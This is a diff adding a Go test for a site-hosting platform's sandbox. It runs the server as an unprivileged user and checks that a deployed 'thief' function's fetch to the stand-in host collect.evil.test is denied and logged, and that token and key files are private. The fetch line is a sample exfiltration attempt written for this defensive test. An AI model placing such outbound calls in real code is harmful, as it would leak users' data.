@@ -1,0 +1,75 @@
+package platform
+
+// The same walls stand for an ordinary user.
+
+import (
+	"io"
+	"os"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"testing"
+)
+
+const ordinary = 12345 // a user that has nothing on this machine
+
+// TestOrdinaryUser serves a site as a user without rights.
+func TestOrdinaryUser(t *testing.T) {
+	if os.Getuid() != 0 {
+		t.Skip("this is an ordinary user already: the other tests are what this one would be")
+	}
+	s := newServer(t)
+	if err := os.Chown(s.dir, ordinary, ordinary); err != nil {
+		t.Fatal(err)
+	}
+	s.self = copyOf(t, s.dir)
+	s.user = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: ordinary, Gid: ordinary}}
+	s.start()
+	site, err := s.CreateSite(t.Context(), "shop")
+	if err != nil {
+		t.Fatal(err)
+	}
+	thief := archive("thief", `exports.handler = async () => {
+		try { return { statusCode: 200, body: await (await fetch("http://collect.evil.test/")).text() } }
+		catch (e) { return { statusCode: 200, body: "denied " + (e.cause || e).code } }
+	}`)
+	if _, err := s.deploy(t.Context(), site.ID, content{functions: map[string][]byte{"thief": thief}}); err != nil {
+		t.Fatal(err)
+	}
+	status, body, err := s.get(t.Context(), "GET", "shop.localhost", "/.netlify/functions/thief")
+	if err != nil || status != 200 || body != "denied EWEIR" {
+		t.Errorf("%d %s %v", status, body, err)
+	}
+	for _, name := range []string{"owner.token", "env.key", "store"} {
+		if info, err := os.Stat(filepath.Join(s.dir, name)); err != nil || info.Mode().Perm()&0o077 != 0 {
+			t.Errorf("%s can be read by others: %v %v", name, info, err)
+		}
+	}
+	s.kill() // so that its log is whole
+	if !strings.Contains(s.log.String(), "denied thief") {
+		t.Error("the denial is not in the log")
+	}
+}
+
+// copyOf puts this binary where every user can run it.
+func copyOf(t *testing.T, dir string) string {
+	t.Helper()
+	self, err := os.Executable()
+	if err != nil {
+		t.Fatal(err)
+	}
+	from, err := os.Open(self)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer from.Close()
+	name := filepath.Join(dir, "weir")
+	to, err := os.OpenFile(name, os.O_CREATE|os.O_WRONLY, 0o755)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := io.Copy(to, from); err != nil || to.Close() != nil {
+		t.Fatal(err)
+	}
+	return name
+}
